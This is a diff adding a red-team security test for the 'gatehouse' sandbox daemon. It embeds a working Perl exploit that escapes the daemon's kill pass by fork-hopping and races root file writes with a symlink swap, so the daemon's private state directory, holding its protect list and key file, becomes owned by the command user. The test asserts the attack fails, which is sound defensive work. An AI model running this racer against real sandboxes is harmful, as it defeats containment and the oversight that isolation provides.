@@ -1,0 +1,85 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { newId } from '@gatehouse/shared';
+import type { Sandbox, SandboxDriver } from '@gatehouse/orchestrator';
+import { makeRepo, rootExec, run, sh, startDriver } from '../support/sandbox';
+
+/**
+ * Red team (issue 10, deliverables 1 and 3): the daemon writes files as root with DAC_OVERRIDE.
+ * write_file of a path whose directories are missing runs `mkdir -p` and then hands the new
+ * directories to the command user with chown, which FOLLOWS symbolic links (file-io.ts giveDirs), and
+ * creates its temporary file by a path whose directory components are followed too. A command user
+ * process that outlives its exec (see redteam-survivor.test.ts) watches for the first directory the
+ * daemon creates, renames it away and puts a link to /var/gatehouse in its place: the rest of the
+ * `mkdir -p`, the chown and the file land in the daemon's private state directory, which ends up
+ * owned by the command user.
+ */
+const RACER = `
+use POSIX ();
+POSIX::setsid();
+# Phase 1: hop (each generation forks the next and exits) for 4 s, past the daemon's kill pass.
+my $t0 = time;
+for (my $n = 0; ; $n++) {
+  my $pid = fork;
+  exit 0 if !defined $pid || $pid > 0;
+  last if time - $t0 >= 4;
+  exit 0 if $n > 5_000_000;
+}
+# Phase 2: the first survivor races; bounded by 150 attempts, 120 s, or /tmp/hop.stop.
+exit 0 unless mkdir "/tmp/racer.lock";
+open(my $p, ">", "/tmp/racer.pid"); print $p "$$\\n"; close $p;
+chdir "/workspace/w" or exit 1;
+my ($k, $end) = (1, time + 120);
+while ($k <= 150 && time < $end && ! -e "/tmp/hop.stop") {
+  my @st = lstat("d$k");
+  next unless @st;
+  if (-d _ && $st[4] == 0 && rename("d$k", "old$k")) {
+    symlink("/var/gatehouse", "d$k");
+    open(my $l, ">>", "/tmp/racer.log"); print $l "swapped d$k\\n"; close $l;
+  }
+  $k++;
+}
+`;
+
+const ATTEMPTS = 40;
+/** Deep enough that the daemon's mkdir -p and chowns take milliseconds, the window the racer needs. */
+const DEEP = 'a/'.repeat(300);
+
+describe('red team: the daemon\'s root file operations raced by a surviving command process', () => {
+  let driver: SandboxDriver;
+  let sandbox: Sandbox;
+  beforeAll(async () => {
+    driver = await startDriver();
+    sandbox = await driver.createSandbox({ runId: newId('run'), repoDir: makeRepo() });
+  });
+  afterAll(async () => {
+    await rootExec(driver, sandbox, ['touch', '/tmp/hop.stop']).catch(() => undefined);
+    await driver?.close();
+  });
+
+  it('write_file never creates, chowns or writes anything outside the workspace', async () => {
+    await sh(sandbox, `mkdir -p w && cat > /tmp/racer.pl <<'EOF_RACER'\n${RACER}\nEOF_RACER`);
+    let racer = '';
+    for (let attempt = 0; attempt < 5 && racer === ''; attempt++) {
+      await rootExec(driver, sandbox, ['rm', '-rf', '/tmp/racer.lock', '/tmp/racer.pid']);
+      const r = await run(sandbox, 'exec', {
+        command: 'for i in $(seq 30); do setsid perl /tmp/racer.pl </dev/null >/dev/null 2>&1 & done; sleep 1; echo started',
+      }, { timeoutMs: 20_000 });
+      expect(r.output).toContain('started');
+      await new Promise((res) => setTimeout(res, 5000));
+      const alive = await rootExec(driver, sandbox, ['sh', '-c', 'p=$(cat /tmp/racer.pid 2>/dev/null) && [ -d /proc/$p ] && echo $p']);
+      racer = alive.output.trim();
+    }
+    expect(racer, 'no racer outlived its exec; the attack needs one').not.toBe('');
+
+    for (let k = 1; k <= ATTEMPTS; k++) {
+      await run(sandbox, 'write_file', { path: `w/d${k}/${DEEP}f`, content: 'planted by write_file\n' }, { timeoutMs: 30_000 });
+    }
+    const state = await rootExec(driver, sandbox, ['sh', '-c', 'stat -c "%u:%g %a" /var/gatehouse; ls -A /var/gatehouse; cat /tmp/racer.log']);
+    const [owner, ...rest] = state.output.trim().split('\n');
+    expect(owner, state.output).toBe('0:0 700');
+    expect(rest.filter((l) => l === 'a'), state.output).toEqual([]);
+    // And so a command can read and change the daemon's baseline, protect list and key file.
+    const look = await run(sandbox, 'exec', { command: 'ls -A /var/gatehouse' });
+    expect(look.status, look.output).toBe('failed');
+  });
+});
